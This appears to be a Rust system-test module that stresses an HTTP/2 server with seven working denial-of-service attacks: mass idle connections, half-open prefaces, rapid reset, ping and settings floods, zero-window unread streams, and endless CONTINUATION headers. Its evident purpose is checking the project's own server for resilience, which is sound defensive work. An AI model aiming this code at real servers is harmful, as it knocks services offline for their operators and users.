//! What a connection can do to a server of HTTP/2 that a client wouldn't, frame by frame.

use std::net::SocketAddr;
use std::time::Duration;

use system_tests::frames::{CONTINUATION, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, call, frame};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::runtime::{Builder, Runtime};
use tokio::time::sleep;

/// Connections that stay and do nothing.
const IDLE: usize = 5_000;
/// Connections of the attacks that do something.
const BUSY: usize = 16;
/// Frames written at once.
const BURST: usize = 256;
/// After a connection was refused or hung up on, before the next.
const PAUSE: Duration = Duration::from_millis(20);

/// SETTINGS_INITIAL_WINDOW_SIZE = 0: nothing may be sent to us.
const NO_WINDOW: [u8; 6] = [0, 4, 0, 0, 0, 0];

/// A way to do harm.
#[derive(Clone, Copy, Debug)]
pub(super) enum Attack {
    IdleConnections,
    HalfOpen,
    RapidReset,
    PingFlood,
    SettingsFlood,
    NeverReading,
    EndlessHeaders,
}

impl Attack {
    pub(super) const ALL: [Self; 7] = [
        Self::IdleConnections,
        Self::HalfOpen,
        Self::RapidReset,
        Self::PingFlood,
        Self::SettingsFlood,
        Self::NeverReading,
        Self::EndlessHeaders,
    ];

    pub(super) fn name(self) -> &'static str {
        match self {
            Self::IdleConnections => "5,000 idle connections",
            Self::HalfOpen => "connections that say nothing",
            Self::RapidReset => "rapid reset",
            Self::PingFlood => "ping flood",
            Self::SettingsFlood => "settings flood",
            Self::NeverReading => "streams that are never read",
            Self::EndlessHeaders => "headers without an end",
        }
    }

    /// Goes on until what is returned is dropped. On a thread of its own, so that good clients never wait for an attacker's task.
    pub(super) fn begin(self, victim: SocketAddr) -> std::io::Result<Attackers> {
        let connections = if matches!(self, Self::IdleConnections) { IDLE } else { BUSY };
        let runtime = Builder::new_multi_thread().worker_threads(1).enable_all().build()?;
        for _ in 0..connections {
            runtime.spawn(async move {
                loop {
                    let _ = self.attack(victim).await;
                    sleep(PAUSE).await;
                }
            });
        }
        Ok(Attackers(Some(runtime)))
    }

    async fn attack(self, victim: SocketAddr) -> std::io::Result<()> {
        let mut connection = TcpStream::connect(victim).await?;
        if matches!(self, Self::HalfOpen) {
            // Half a preface, and then nothing.
            connection.write_all(&PREFACE[..10]).await?;
            return hold(&mut connection).await;
        }
        let settings: &[u8] = if matches!(self, Self::NeverReading) { &NO_WINDOW } else { &[] };
        connection.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat()).await?;
        match self {
            Self::IdleConnections | Self::HalfOpen => return hold(&mut connection).await,
            Self::NeverReading => {
                for stream in (1..400).step_by(2) {
                    connection.write_all(&call(stream)).await?;
                }
                // Not a byte is read.
                loop {
                    sleep(Duration::from_secs(1)).await;
                }
            }
            _ => {}
        }
        let (mut from, mut to) = connection.split();
        let mut ignored = [0; 4_096];
        let shout = async {
            let mut stream = 1_u32;
            let mut burst = self.burst(&mut stream);
            loop {
                to.write_all(&burst).await?;
                // What names no stream can be sent again as it is: the attacker's work is as little as can be.
                if !matches!(self, Self::PingFlood | Self::SettingsFlood) {
                    burst = self.burst(&mut stream);
                }
                if stream > 1 << 30 {
                    break;
                }
                tokio::task::yield_now().await;
            }
            std::io::Result::Ok(())
        };
        // Until it hangs up.
        let listen = async {
            while from.read(&mut ignored).await? > 0 {}
            std::io::Result::Ok(())
        };
        tokio::select! {
            ended = shout => ended,
            ended = listen => ended,
        }
    }

    fn burst(self, stream: &mut u32) -> Vec<u8> {
        let mut bytes = Vec::new();
        for _ in 0..BURST {
            match self {
                Self::RapidReset => {
                    bytes.extend(call(*stream));
                    bytes.extend(frame(RST_STREAM, 0, *stream, &8_u32.to_be_bytes()));
                    *stream += 2;
                }
                Self::EndlessHeaders => {
                    let kind = if *stream == 1 { HEADERS } else { CONTINUATION };
                    // Literal headers, never indexed: each makes the list longer.
                    let block = [&[0x10, 1, b'x', 64][..], &[b'y'; 64]].concat();
                    bytes.extend(frame(kind, 0, 1, &block));
                    *stream = 3;
                }
                Self::SettingsFlood => bytes.extend(frame(SETTINGS, 0, 0, &NO_WINDOW)),
                _ => bytes.extend(frame(PING, 0, 0, &[0; 8])),
            }
        }
        bytes
    }
}

/// Those who attack.
pub(super) struct Attackers(Option<Runtime>);

impl Drop for Attackers {
    fn drop(&mut self) {
        if let Some(runtime) = self.0.take() {
            runtime.shutdown_background();
        }
    }
}

/// Reads until the other side hangs up.
async fn hold(connection: &mut TcpStream) -> std::io::Result<()> {
    let mut ignored = [0; 1_024];
    while connection.read(&mut ignored).await? > 0 {}
    Ok(())
}
